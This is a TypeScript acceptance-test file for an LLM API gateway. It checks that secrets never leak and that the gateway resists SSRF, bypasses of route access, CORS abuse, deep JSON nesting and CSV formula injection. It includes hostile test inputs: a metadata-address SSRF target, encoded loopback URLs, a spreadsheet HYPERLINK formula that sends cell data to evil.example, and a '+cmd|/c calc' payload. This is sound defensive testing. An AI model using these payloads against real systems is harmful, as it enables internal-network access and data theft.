/**
 * Acceptance tests for "multi-tenant and secure": canary secrets never leak through logs, ledger
 * rows, error bodies, metrics or headers; no request field or header steers the gateway to
 * another host (SSRF); every route declares an access class and the gateway enforces it.
 */

import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer, request } from 'node:http';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseStrictCsv } from '../src/accounting/reports/__fixtures__/strict-csv.js';
import { costsExportCommand } from '../src/cli/costs.js';
import { ROUTES } from '../src/http/routes/table.js';
import { type MockUpstream, startMockUpstream } from '../src/mock-upstream/server.js';
import { defaultTestConfig, type Harness, startHarness } from './helpers/harness.js';

const PROVIDER_KEY = 'pk-Zq7XkP3vW9mR2tL8nB4cYh6J';
const MASTER_KEY = 'mk-Jf83Hs92Kd71Lq05WzEu4Tg';
/** Prompt text: the access log says who asked and what it cost, never what was asked. */
const PROMPT_CANARY = 'prompt-canary-Vx81Qe';

interface Reply {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

function send(
  base: string,
  method: string,
  path: string,
  options: { headers?: Record<string, string>; body?: unknown } = {},
): Promise<Reply> {
  const payload =
    options.body === undefined
      ? undefined
      : typeof options.body === 'string'
        ? options.body
        : JSON.stringify(options.body);
  const url = new URL(path, base);
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host: url.hostname,
        port: url.port,
        path: url.pathname + url.search,
        method,
        headers: {
          ...(payload === undefined ? {} : { 'content-type': 'application/json' }),
          ...options.headers,
        },
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () =>
          resolve({
            status: res.statusCode ?? 0,
            headers: res.headers,
            body: Buffer.concat(chunks).toString(),
          }),
        );
        res.on('error', reject);
      },
    );
    req.on('error', reject);
    req.end(payload);
  });
}

function bearer(key: string): Record<string, string> {
  return { authorization: `Bearer ${key}` };
}

function chat(content: string, extra: Record<string, unknown> = {}) {
  return { model: 'gpt-4o-mini', messages: [{ role: 'user', content }], ...extra };
}

/** Every 8-character window of each secret; any one found in `text` is a leak. */
function findLeak(text: string, secrets: readonly string[]): string | undefined {
  for (const secret of secrets) {
    for (let i = 0; i + 8 <= secret.length; i++) {
      const window = secret.slice(i, i + 8);
      if (text.includes(window)) return window;
    }
  }
  return undefined;
}

/** The access-log lines (`message: "request"`) by request id. */
function accessLines(logs: readonly string[]): Map<string, Record<string, unknown>> {
  const lines = new Map<string, Record<string, unknown>>();
  for (const text of logs) {
    const line = JSON.parse(text) as { message?: string; details?: Record<string, unknown> };
    if (line.message === 'request' && line.details) lines.set(String(line.details.request_id), line.details);
  }
  return lines;
}

async function mintKey(h: Harness, spec: Record<string, unknown>): Promise<string> {
  const created = await send(h.url, 'POST', '/admin/keys', { headers: bearer(MASTER_KEY), body: spec });
  expect(created.status).toBe(201);
  return (JSON.parse(created.body) as { key: string }).key;
}

describe('canary secrets', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await startHarness({
      config: (mockUrl) => {
        const base = defaultTestConfig(mockUrl);
        return {
          ...base,
          auth: { master_key: MASTER_KEY },
          providers: {
            mock: { type: 'openai', base_url: `${mockUrl}/v1`, api_key: PROVIDER_KEY, timeout_ms: 200 },
          },
          execution: { max_retries: 0 },
          logging: { level: 'trace' },
        };
      },
    });
  });
  afterAll(() => h.close());

  it('never show a provider, master or virtual key in logs, ledger, error bodies, metrics or headers', async () => {
    const virtualKey = await mintKey(h, { name: 'tenant-a' });
    const listed = await send(h.url, 'GET', '/admin/keys', { headers: bearer(MASTER_KEY) });
    const keyId = (JSON.parse(listed.body) as { keys: { id: string; name: string }[] }).keys.find(
      (k) => k.name === 'tenant-a',
    )?.id;
    expect(keyId).toBeDefined();
    // The display prefix (`sk-sy-` and four characters) is meant to be shown; the rest is secret.
    const secrets = [PROVIDER_KEY, MASTER_KEY, virtualKey.slice(10)];
    const replies: Reply[] = [];
    for (const key of [MASTER_KEY, virtualKey]) {
      const auth = bearer(key);
      const ok = await send(h.url, 'POST', '/v1/chat/completions', {
        headers: auth,
        body: chat(`hello ${PROMPT_CANARY}`),
      });
      expect(ok.status).toBe(200);
      replies.push(ok);
      const upstream = await send(h.url, 'POST', '/v1/chat/completions', {
        headers: auth,
        body: chat('boom [[mock:fault=http_500]]'),
      });
      expect(upstream.status).toBeGreaterThanOrEqual(500);
      replies.push(upstream);
      const timeout = await send(h.url, 'POST', '/v1/chat/completions', {
        headers: auth,
        body: chat('wait [[mock:fault=hang]]'),
      });
      expect(timeout.status).toBeGreaterThanOrEqual(500);
      replies.push(timeout);
      const invalid = await send(h.url, 'POST', '/v1/chat/completions', {
        headers: auth,
        body: { model: 'gpt-4o-mini', messages: 'nope' },
      });
      expect(invalid.status).toBe(400);
      replies.push(invalid);
      const broken = await send(h.url, 'POST', '/v1/chat/completions', { headers: auth, body: '{"model":' });
      expect(broken.status).toBe(400);
      replies.push(broken);
    }
    const admin = await send(h.url, 'GET', '/admin/keys', { headers: bearer(MASTER_KEY) });
    expect(admin.status).toBe(200);
    replies.push(admin);
    const forbidden = await send(h.url, 'GET', '/admin/keys', { headers: bearer(virtualKey) });
    expect(forbidden.status).toBe(403);
    replies.push(forbidden);
    // A secret presented in the wrong place must not be echoed back either.
    for (const key of [PROVIDER_KEY, `${MASTER_KEY}x`, `${virtualKey}x`]) {
      const wrong = await send(h.url, 'POST', '/v1/chat/completions', {
        headers: bearer(key),
        body: chat('hi'),
      });
      expect(wrong.status).toBe(401);
      replies.push(wrong);
    }
    const metrics = await send(h.url, 'GET', '/metrics');
    expect(metrics.status).toBe(200);
    await new Promise((resolve) => setTimeout(resolve, 300));
    await h.gateway.logger.flush();

    // Every path logged its access line — so "no canary in the logs" is not true of empty logs.
    const access = accessLines(h.logs);
    for (const reply of [...replies, metrics]) {
      const id = reply.headers['x-switchyard-request-id'];
      expect(typeof id, `${reply.status} ${reply.body.slice(0, 80)}`).toBe('string');
      const line = access.get(id as string);
      expect(line, `access line of ${reply.status} ${reply.body.slice(0, 80)}`).toBeDefined();
      expect(line?.status).toBe(reply.status);
      expect(typeof line?.duration_ms).toBe('number');
    }
    const served = access.get(replies[0]?.headers['x-switchyard-request-id'] as string);
    expect(served).toMatchObject({ method: 'POST', path: '/v1/chat/completions', model: 'gpt-4o-mini' });
    expect(served?.provider).toBe('mock');
    expect(served?.attempts).toBe(1);
    expect(Number(served?.cost_usd)).toBeGreaterThan(0);
    const tenantLines = [...access.values()].filter((l) => l.key_id === keyId);
    expect(tenantLines.length).toBeGreaterThanOrEqual(5);
    expect(h.logs.join('\n')).not.toContain(PROMPT_CANARY);

    for (const reply of replies) {
      expect(findLeak(JSON.stringify(reply.headers), secrets)).toBeUndefined();
      if (reply.status >= 400) expect(findLeak(reply.body, secrets)).toBeUndefined();
    }
    expect(findLeak(metrics.body, secrets)).toBeUndefined();
    expect(findLeak(h.logs.join('\n'), secrets)).toBeUndefined();

    const db = new Database(join(h.dir, 'ledger.db'), { readonly: true });
    try {
      const tables = db.prepare("SELECT name FROM sqlite_master WHERE type = 'table'").all() as {
        name: string;
      }[];
      let rows = 0;
      for (const { name } of tables) {
        for (const row of db.prepare(`SELECT * FROM "${name}"`).all() as Record<string, unknown>[]) {
          rows++;
          for (const value of Object.values(row)) {
            if (typeof value === 'string') expect(findLeak(value, secrets), `${name}`).toBeUndefined();
          }
        }
      }
      expect(rows).toBeGreaterThan(0);
    } finally {
      db.close();
    }
  });
});

describe('SSRF', () => {
  let h: Harness;
  let trap: Server;
  let trapUrl = '';
  let connections = 0;
  beforeAll(async () => {
    trap = createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
    const address = trap.address();
    if (address === null || typeof address === 'string') throw new Error('trap has no port');
    trapUrl = `http://127.0.0.1:${address.port}`;
    h = await startHarness({
      config: (mockUrl) => ({ ...defaultTestConfig(mockUrl), auth: { master_key: MASTER_KEY } }),
    });
  });
  afterAll(async () => {
    await h.close();
    await new Promise<void>((resolve) => trap.close(() => resolve()));
  });

  it('no body field, model name or header makes the gateway connect anywhere but the configured upstream', async () => {
    const trapHost = trapUrl.slice('http://'.length);
    const fields = {
      api_base: `${trapUrl}/v1`,
      base_url: `${trapUrl}/v1`,
      custom_llm_provider: 'openai',
      api_key: 'sk-whatever',
      extra_headers: { host: trapHost },
    };
    const headers = {
      ...bearer(MASTER_KEY),
      'x-portkey-custom-host': `${trapUrl}/v1`,
      'x-forwarded-host': trapHost,
      'x-forwarded-proto': 'http',
      host: trapHost,
    };
    const models = [
      'gpt-4o-mini',
      `${trapUrl}/latest`,
      'http://169.254.169.254/latest',
      '../x',
      `openai/${trapUrl}`,
    ];
    for (const model of models) {
      await send(h.url, 'POST', '/v1/chat/completions', {
        headers,
        body: { ...chat('hi'), ...fields, model },
      });
      await send(h.url, 'POST', '/v1/completions', { headers, body: { model, prompt: 'hi', ...fields } });
      await send(h.url, 'POST', '/v1/embeddings', { headers, body: { model, input: 'hi', ...fields } });
      await send(h.url, 'POST', '/v1/messages', {
        headers,
        body: { model, max_tokens: 10, messages: [{ role: 'user', content: 'hi' }], ...fields },
      });
      await send(h.url, 'GET', `/v1/models/${encodeURIComponent(model)}`, { headers });
    }
    const ok = await send(h.url, 'POST', '/v1/chat/completions', {
      headers: bearer(MASTER_KEY),
      body: { ...chat('still fine'), ...fields },
    });
    expect(ok.status).toBe(200);
    expect(connections).toBe(0);
  });

  it('refuses switchyard.api_base with 400 while no allow-list is configured', async () => {
    const before = h.mock.requests.length;
    for (const apiBase of [`${trapUrl}/v1`, 'http://169.254.169.254/latest', 'https://api.openai.com/v1']) {
      const reply = await send(h.url, 'POST', '/v1/chat/completions', {
        headers: bearer(MASTER_KEY),
        body: chat('hi', { switchyard: { api_base: apiBase } }),
      });
      expect(reply.status).toBe(400);
      const error = (JSON.parse(reply.body) as { error: { code: string; details: unknown } }).error;
      expect(error).toMatchObject({ code: 'INVALID_REQUEST', details: { field: 'switchyard.api_base' } });
    }
    expect(h.mock.requests.length).toBe(before);
    expect(connections).toBe(0);
  });
});

describe('request-supplied upstream with security.upstream_allowlist', () => {
  let h: Harness;
  let second: MockUpstream;
  let trap: Server;
  let trapPort = 0;
  let trapConnections = 0;
  let redirector: HttpServer;
  let redirectorUrl = '';
  let redirects = 0;

  const listenPort = async (server: Server | HttpServer): Promise<number> => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    if (address === null || typeof address === 'string') throw new Error('no port');
    return address.port;
  };
  const errorOf = (reply: Reply) =>
    (JSON.parse(reply.body) as { error: { code: string; message: string; details?: unknown } }).error;
  const chatVia = (apiBase: string, extra: Record<string, unknown> = {}) =>
    send(h.url, 'POST', '/v1/chat/completions', {
      headers: bearer(MASTER_KEY),
      body: chat('hi', { switchyard: { api_base: apiBase }, ...extra }),
    });

  beforeAll(async () => {
    trap = createServer((socket) => {
      trapConnections++;
      socket.destroy();
    });
    trapPort = await listenPort(trap);
    second = await startMockUpstream();
    // An allowed upstream that tries to send the gateway on to the trap.
    redirector = createHttpServer((req, res) => {
      redirects++;
      req.resume();
      res.writeHead(307, {
        location: `http://127.0.0.1:${trapPort}/v1/chat/completions`,
        'content-type': 'application/json',
      });
      res.end('{"id":"x","choices":[{"index":0,"message":{"role":"assistant","content":"hi"}}]}');
    });
    redirectorUrl = `http://127.0.0.1:${await listenPort(redirector)}`;
    h = await startHarness({
      config: (mockUrl) => ({
        ...defaultTestConfig(mockUrl),
        auth: { master_key: MASTER_KEY },
        security: {
          upstream_allowlist: [
            { url: second.url, allow_private: true },
            { url: redirectorUrl, allow_private: true },
            // A name, not an address: it resolves to loopback, and this entry does not allow that.
            `http://localhost:${second.port}`,
          ],
        },
      }),
    });
  });
  afterAll(async () => {
    await h.close();
    await second.close();
    await new Promise<void>((resolve) => trap.close(() => resolve()));
    await new Promise<void>((resolve) => redirector.close(() => resolve()));
  });

  it('sends an allowed request to the upstream it names, on every ingress wire', async () => {
    const configured = h.mock.requests.length;
    const ok = await chatVia(`${second.url}/v1`);
    expect(ok.status).toBe(200);
    expect(ok.headers['x-switchyard-model']).toBe('gpt-4o-mini');
    const streamed = await chatVia(`${second.url}/v1/`, { stream: true });
    expect(streamed.status).toBe(200);
    expect(streamed.body).toContain('data: [DONE]');
    const messages = await send(h.url, 'POST', '/v1/messages', {
      headers: bearer(MASTER_KEY),
      body: {
        model: 'gpt-4o-mini',
        max_tokens: 10,
        messages: [{ role: 'user', content: 'hi' }],
        switchyard: { api_base: `${second.url}/v1` },
      },
    });
    expect(messages.status).toBe(200);
    const embeddings = await send(h.url, 'POST', '/v1/embeddings', {
      headers: bearer(MASTER_KEY),
      body: { model: 'text-embedding-3-small', input: 'hi', switchyard: { api_base: `${second.url}/v1` } },
    });
    expect(embeddings.status).toBe(200);
    expect(second.requests.map((r) => r.path)).toEqual([
      '/v1/chat/completions',
      '/v1/chat/completions',
      '/v1/chat/completions',
      '/v1/embeddings',
    ]);
    // With the deployment's credentials, as it would have gone to the configured upstream.
    expect(second.requests[0]?.headers.authorization).toBe('Bearer sk-test-provider-key-0123456789');
    expect(h.mock.requests.length).toBe(configured);
  });

  it('refuses anything the allow-list does not name with 400 and no connection at all', async () => {
    const configured = h.mock.requests.length;
    const allowed = second.requests.length;
    const refused = [
      `http://127.0.0.1:${trapPort}/v1`, // same host as allowed entries, other port
      `http://[::ffff:127.0.0.1]:${trapPort}/v1`,
      `http://0x7f000001:${trapPort}/v1`,
      `http://localhost:${trapPort}/v1`,
      `http://user:pass@127.0.0.1:${second.port}/v1`, // credentials, even towards an allowed upstream
      `https://127.0.0.1:${second.port}/v1`, // scheme differs from the entry
      `ftp://127.0.0.1:${second.port}/v1`,
      'http://169.254.169.254/latest',
      '/v1',
    ];
    for (const apiBase of refused) {
      const reply = await chatVia(apiBase);
      expect(reply.status, apiBase).toBe(400);
      expect(errorOf(reply), apiBase).toMatchObject({
        code: 'INVALID_REQUEST',
        details: { field: 'switchyard.api_base' },
      });
    }
    const wrongType = await chatVia(42 as unknown as string);
    expect(wrongType.status).toBe(400);
    expect(trapConnections).toBe(0);
    expect(second.requests.length).toBe(allowed);
    expect(h.mock.requests.length).toBe(configured);
  });

  it('refuses an allowed name that resolves to loopback when its entry does not allow private addresses', async () => {
    const allowed = second.requests.length;
    const reply = await chatVia(`http://localhost:${second.port}/v1`);
    expect(reply.status).toBe(400);
    expect(errorOf(reply)).toMatchObject({
      code: 'INVALID_REQUEST',
      details: { field: 'switchyard.api_base' },
    });
    expect(errorOf(reply).message).toMatch(/not public/);
    expect(second.requests.length).toBe(allowed);
  });

  it('never follows a redirect from an allowed upstream, and its failures leave the deployment healthy', async () => {
    for (let i = 0; i < 8; i++) {
      const reply = await chatVia(`${redirectorUrl}/v1`);
      expect(reply.status).toBe(502);
      expect(errorOf(reply).code).toMatch(/INVALID_RESPONSE|ROUTE_EXHAUSTED/);
      expect(reply.body).toContain('redirect');
    }
    expect(redirects).toBeGreaterThanOrEqual(8);
    expect(trapConnections).toBe(0);
    // Eight failures of a client's own upstream did not open the configured deployment's circuit.
    const ok = await send(h.url, 'POST', '/v1/chat/completions', {
      headers: bearer(MASTER_KEY),
      body: chat('hi'),
    });
    expect(ok.status).toBe(200);
    const circuits = await send(h.url, 'GET', '/admin/circuits', { headers: bearer(MASTER_KEY) });
    expect(circuits.body).not.toContain('"open"');
  });
});

describe('route access', () => {
  let h: Harness;
  let tenantKey = '';
  beforeAll(async () => {
    h = await startHarness({
      config: (mockUrl) => ({ ...defaultTestConfig(mockUrl), auth: { master_key: MASTER_KEY } }),
    });
    tenantKey = await mintKey(h, { name: 'tenant' });
  });
  afterAll(() => h.close());

  const concrete = (path: string) => path.replace(/:[a-z_]+\*?/gi, 'x');

  it('every route declares an access class', () => {
    expect(ROUTES.length).toBeGreaterThan(10);
    for (const route of ROUTES) expect(['public', 'key', 'admin'], route.path).toContain(route.access);
  });

  it('every key and admin route answers 401 without a key', async () => {
    for (const route of ROUTES.filter((r) => r.access !== 'public')) {
      const reply = await send(h.url, route.method, concrete(route.path), {
        body: route.method === 'POST' ? {} : undefined,
      });
      expect(reply.status, `${route.method} ${route.path}`).toBe(401);
    }
  });

  it('every admin route answers 403 to a virtual key that is not admin, and 401 to a wrong key', async () => {
    const admin = ROUTES.filter((r) => r.access === 'admin');
    expect(admin.length).toBeGreaterThan(5);
    for (const route of admin) {
      const path = concrete(route.path);
      const body = route.method === 'POST' ? {} : undefined;
      const forbidden = await send(h.url, route.method, path, { headers: bearer(tenantKey), body });
      expect(forbidden.status, `${route.method} ${route.path}`).toBe(403);
      const wrong = await send(h.url, route.method, path, { headers: bearer(`${tenantKey}x`), body });
      expect(wrong.status, `${route.method} ${route.path}`).toBe(401);
    }
  });
});

describe('CORS', () => {
  const allowed = 'https://app.example.com';
  const preflight = (origin: string) => ({
    origin,
    'access-control-request-method': 'POST',
    'access-control-request-headers': 'authorization, content-type',
  });

  it('is off by default: no allow-origin header, no preflight answer', async () => {
    const h = await startHarness({
      config: (mockUrl) => ({ ...defaultTestConfig(mockUrl), auth: { master_key: MASTER_KEY } }),
    });
    try {
      const pre = await send(h.url, 'OPTIONS', '/v1/chat/completions', { headers: preflight(allowed) });
      expect(pre.status).not.toBe(204);
      expect(pre.headers['access-control-allow-origin']).toBeUndefined();
      const ok = await send(h.url, 'POST', '/v1/chat/completions', {
        headers: { ...bearer(MASTER_KEY), origin: allowed },
        body: chat('hi'),
      });
      expect(ok.status).toBe(200);
      expect(ok.headers['access-control-allow-origin']).toBeUndefined();
    } finally {
      await h.close();
    }
  });

  it('answers only listed origins, echoing the origin and never allowing credentials', async () => {
    const h = await startHarness({
      config: (mockUrl) => ({
        ...defaultTestConfig(mockUrl),
        auth: { master_key: MASTER_KEY },
        server: { cors_origins: [allowed] },
      }),
    });
    try {
      const pre = await send(h.url, 'OPTIONS', '/v1/chat/completions', { headers: preflight(allowed) });
      expect(pre.status).toBe(204);
      expect(pre.headers['access-control-allow-origin']).toBe(allowed);
      expect(pre.headers['access-control-allow-methods']).toContain('POST');
      expect(pre.headers['access-control-allow-credentials']).toBeUndefined();
      const evil = await send(h.url, 'OPTIONS', '/v1/chat/completions', {
        headers: preflight('https://evil.example'),
      });
      expect(evil.status).not.toBe(204);
      expect(evil.headers['access-control-allow-origin']).toBeUndefined();
      const ok = await send(h.url, 'POST', '/v1/chat/completions', {
        headers: { ...bearer(MASTER_KEY), origin: allowed },
        body: chat('hi'),
      });
      expect(ok.status).toBe(200);
      expect(ok.headers['access-control-allow-origin']).toBe(allowed);
      expect(ok.headers.vary).toContain('origin');
      const denied = await send(h.url, 'POST', '/v1/chat/completions', {
        headers: { origin: allowed },
        body: chat('hi'),
      });
      expect(denied.status).toBe(401);
      expect(denied.headers['access-control-allow-origin']).toBe(allowed);
      const other = await send(h.url, 'POST', '/v1/chat/completions', {
        headers: { ...bearer(MASTER_KEY), origin: 'https://evil.example' },
        body: chat('hi'),
      });
      expect(other.headers['access-control-allow-origin']).toBeUndefined();
    } finally {
      await h.close();
    }
  });
});

describe('JSON nesting limit', () => {
  it('refuses a body nested deeper than 64 with 400 before parsing it', async () => {
    const h = await startHarness({
      config: (mockUrl) => ({ ...defaultTestConfig(mockUrl), auth: { master_key: MASTER_KEY } }),
    });
    try {
      for (const depth of [65, 100_000]) {
        const body = `{"model":"gpt-4o-mini","messages":${'['.repeat(depth)}${']'.repeat(depth)}}`;
        const reply = await send(h.url, 'POST', '/v1/chat/completions', {
          headers: bearer(MASTER_KEY),
          body,
        });
        expect(reply.status).toBe(400);
        expect(reply.body).toContain('INVALID_REQUEST');
        expect(reply.body).toContain('deeper than 64');
      }
      // Brackets inside strings do not count, and depth 64 itself is accepted by the scan.
      const inString = chat(`${'['.repeat(200)} \\" {{{`);
      const fine = await send(h.url, 'POST', '/v1/chat/completions', {
        headers: bearer(MASTER_KEY),
        body: inString,
      });
      expect(fine.status).toBe(200);
    } finally {
      await h.close();
    }
  });
});

describe('an upstream that echoes the provider key', () => {
  it('does not pass the key on in the error body, headers, logs or ledger', async () => {
    let seen = 0;
    // Some providers quote the presented key in their 401 message; this one quotes it everywhere.
    const echo = createHttpServer((req, res) => {
      seen++;
      req.resume();
      const auth = String(req.headers.authorization ?? '').replace('Bearer ', '');
      const status = req.url?.includes('gpt-4o') || seen % 2 === 0 ? 401 : 400;
      const text = JSON.stringify({
        error: { message: `Incorrect API key provided: ${auth}`, type: 'invalid_request_error', code: auth },
      });
      res.writeHead(status, { 'content-type': 'application/json', 'x-echo-key': auth });
      res.end(text);
    });
    await new Promise<void>((resolve) => echo.listen(0, '127.0.0.1', resolve));
    const address = echo.address();
    if (address === null || typeof address === 'string') throw new Error('echo has no port');
    const h = await startHarness({
      config: (mockUrl) => ({
        ...defaultTestConfig(mockUrl),
        auth: { master_key: MASTER_KEY },
        providers: {
          mock: { type: 'openai', base_url: `http://127.0.0.1:${address.port}/v1`, api_key: PROVIDER_KEY },
        },
        execution: { max_retries: 0 },
      }),
    });
    try {
      const replies: Reply[] = [];
      for (const model of ['gpt-4o-mini', 'gpt-4o', 'gpt-4o-mini']) {
        const reply = await send(h.url, 'POST', '/v1/chat/completions', {
          headers: bearer(MASTER_KEY),
          body: { ...chat('hi'), model },
        });
        expect(reply.status).toBeGreaterThanOrEqual(400);
        replies.push(reply);
      }
      expect(seen).toBeGreaterThan(0);
      await new Promise((resolve) => setTimeout(resolve, 200));
      const secrets = [PROVIDER_KEY, MASTER_KEY];
      for (const reply of replies) {
        expect(findLeak(reply.body, secrets), reply.body).toBeUndefined();
        expect(findLeak(JSON.stringify(reply.headers), secrets)).toBeUndefined();
      }
      expect(findLeak(h.logs.join('\n'), secrets)).toBeUndefined();
      const db = new Database(join(h.dir, 'ledger.db'), { readonly: true });
      try {
        const rows = db.prepare('SELECT * FROM ledger').all() as Record<string, unknown>[];
        expect(rows.length).toBeGreaterThan(0);
        for (const row of rows) {
          for (const value of Object.values(row)) {
            if (typeof value === 'string') expect(findLeak(value, secrets)).toBeUndefined();
          }
        }
      } finally {
        db.close();
      }
    } finally {
      await h.close();
      await new Promise<void>((resolve) => echo.close(() => resolve()));
    }
  });
});

describe('CSV exports', () => {
  it('neutralise formulas in client-chosen text through /admin/usage, /admin/usage/export and costs export', async () => {
    const h = await startHarness({
      config: (mockUrl) => ({ ...defaultTestConfig(mockUrl), auth: { master_key: MASTER_KEY } }),
    });
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';
    const dir = mkdtempSync(join(tmpdir(), 'switchyard-csv-'));
    try {
      const key = await mintKey(h, { name: formula, project: formula, user: '@SUM(1+1)' });
      const reply = await send(h.url, 'POST', '/v1/chat/completions', {
        headers: bearer(key),
        body: chat('hi', { switchyard: { tags: ['+cmd|/c calc!A1', '-2+3'] } }),
      });
      expect(reply.status).toBe(200);
      await new Promise((resolve) => setTimeout(resolve, 100));

      const exported = await send(h.url, 'GET', '/admin/usage/export?format=csv', {
        headers: bearer(MASTER_KEY),
      });
      expect(exported.status).toBe(200);
      const [header, ...rows] = parseStrictCsv(exported.body);
      const row = rows.find((r) => r[header?.indexOf('project') ?? -1]?.includes('HYPERLINK'));
      const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
      expect(cell('project')).toBe(`'${formula}`);
      expect(cell('user')).toBe("'@SUM(1+1)");
      expect(cell('tags')).toBe("'+cmd|/c calc!A1;-2+3");
      // Numbers stay numbers.
      expect(Number(cell('cost_usd'))).toBeGreaterThan(0);
      expect(cell('cost_usd')?.startsWith("'")).toBe(false);

      const usage = await send(h.url, 'GET', '/admin/usage?format=csv&by=project,user,tag&period=none', {
        headers: bearer(MASTER_KEY),
      });
      expect(usage.status).toBe(200);
      const [usageHeader, ...usageRows] = parseStrictCsv(usage.body);
      const projects = usageRows.map((r) => r[usageHeader?.indexOf('project') ?? -1]);
      const tags = usageRows.map((r) => r[usageHeader?.indexOf('tag') ?? -1]);
      expect(projects).toContain(`'${formula}`);
      expect(tags).toEqual(expect.arrayContaining(["'+cmd|/c calc!A1", "'-2+3"]));

      const file = join(dir, 'export.csv');
      await costsExportCommand({ url: h.url, apiKey: MASTER_KEY, format: 'csv', output: file });
      const cli = readFileSync(file, 'utf8');
      expect(cli).toContain(`"'=HYPERLINK(`);
      // No cell of any export starts with a formula character.
      for (const text of [exported.body, usage.body, cli]) {
        for (const record of parseStrictCsv(text)) {
          for (const value of record) {
            if (/^[=+\-@\t\r]/.test(value))
              expect(value).toMatch(/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/);
          }
        }
      }
    } finally {
      await h.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('access log', () => {
  it('is one line per request, including refusals and unknown routes, and off with server.access_log: false', async () => {
    for (const enabled of [true, false]) {
      const h = await startHarness({
        config: (mockUrl) => ({
          ...defaultTestConfig(mockUrl),
          auth: { master_key: MASTER_KEY },
          server: { access_log: enabled },
        }),
      });
      try {
        const replies = [
          await send(h.url, 'POST', '/v1/chat/completions', {
            headers: bearer(MASTER_KEY),
            body: chat('hi'),
          }),
          await send(h.url, 'GET', `/nowhere?key=${PROVIDER_KEY}`),
          await send(h.url, 'GET', '/admin/keys'),
        ];
        expect(replies.map((r) => r.status)).toEqual([200, 404, 401]);
        await new Promise((resolve) => setTimeout(resolve, 50));
        await h.gateway.logger.flush();
        const access = accessLines(h.logs);
        if (!enabled) {
          expect(access.size).toBe(0);
          continue;
        }
        expect(access.size).toBe(3);
        for (const reply of replies) {
          expect(access.get(String(reply.headers['x-switchyard-request-id']))?.status).toBe(reply.status);
        }
        // The query string (where a key might be) is not logged.
        expect(h.logs.join('\n')).not.toContain('?key=');
      } finally {
        await h.close();
      }
    }
  });
});
